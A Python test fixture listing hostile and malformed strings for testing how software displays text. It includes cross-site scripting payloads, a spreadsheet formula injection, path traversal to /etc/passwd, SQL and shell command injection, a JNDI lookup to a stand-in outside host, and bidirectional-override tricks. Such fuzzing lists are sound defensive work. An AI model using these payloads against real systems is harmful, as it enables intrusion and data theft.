"""Strings that break what shows them: markup, controls, bidirectional tricks, odd letters, odd sizes.  All our own."""

from __future__ import annotations

RUN = "window.ran=1"
"""What a payload would do if it ran."""

NAUGHTY = (
    # markup in every place that markup can stand
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea></select></style></script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><svg/onload={RUN}>',
    f"' autofocus onfocus={RUN} x='",
    f"<details open ontoggle={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<math><mtext></p><style><img src=x onerror={RUN}></style>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<base href='https://outside.example/'>",
    "<meta http-equiv=refresh content='0;url=https://outside.example/'>",
    "<link rel=stylesheet href=https://outside.example/x.css>",
    "<form action=https://outside.example/><input name=x></form>",
    "<table><tr><td></table></section></main></body></html>",
    "<plaintext>",
    "<!--",
    "--!> ]]> <![CDATA[ <?xml?> <!doctype html>",
    "<template><slot>",
    "<style>@import 'https://outside.example/x.css'; *{display:none!important}</style>",
    f"javascript:{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    "&#60;b&#62; &lt; &amp;amp; &notit; &#x0; &#xD800;",
    "</bdi></mark></blockquote></figure>",
    "{{ 7*7 }} {% raw %} ${7*7} #{7} <%= 7 %> [[7]] %(x)s {0} {n}",
    "\\u003cscript\\u003e \\x3c \\74 \\",
    # directions
    "\u202egnp.exe \u202d\u202c",
    "\u2066\u2067\u2068 never closed",
    "\u2069\u202c\u2069 closed and never opened",
    "\u0645\u0631\u062d\u0628\u0627 (abc) 123 \u05e9\u05dc\u05d5\u05dd",
    "\u200f\u200e\u061c marks alone \u200f",
    # letters
    "z\u0335\u0321\u0322\u0489\u030d\u0300\u0301\u0302\u0303" * 12,
    "\u200b\u200c\u200d\u2060\ufeff\u00ad",
    "\U000e0041\U000e0042\U000e007f tags \ufe0f\ufe0e",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1e6\U0001f1e7",
    "\ufdfd\ufdfd\ufdfd \U0001242b\U0001242b",
    "\uff1cscript\uff1e \u2039script\u203a",
    "\u1160\u3164\uffa0\u2800",
    "i\u0307\u0130\u0131 \u017f\ufb01 \u1e9e",
    "\ud800 \udfff \ufffe \uffff \ufffd",
    # controls and spaces
    "a\x00b\x07c\x08d\x1b[31me\x7ff\x9b",
    "one\ttwo\u2028three\u2029four\x85five\x0bsix\x0cseven",
    "\r\n\r\n",
    "\u00a0\u2003\u3000 ",
    "line\n" * 9,
    # what other programs read into a text
    "=cmd|' /C calc'!A0",
    "../../../../etc/passwd%00.html",
    "CON", "NUL", "null", "undefined", "NaN", "true", "-1", "1e309", "0x", "",
    "' OR 1=1; DROP TABLE finding; --",
    "$(touch x) `touch x` ; & | > <",
    "${jndi:ldap://outside.example/x}",
    "# heading\n| table | *a* [b](javascript:c) ![d](https://outside.example/x)",
    # sizes
    "W" * 900,
    "i" * 900,
    "\u4e00" * 900,
    "a-b/c.d_" * 90,
    "W" * 1_000_000,
)  # fmt: skip
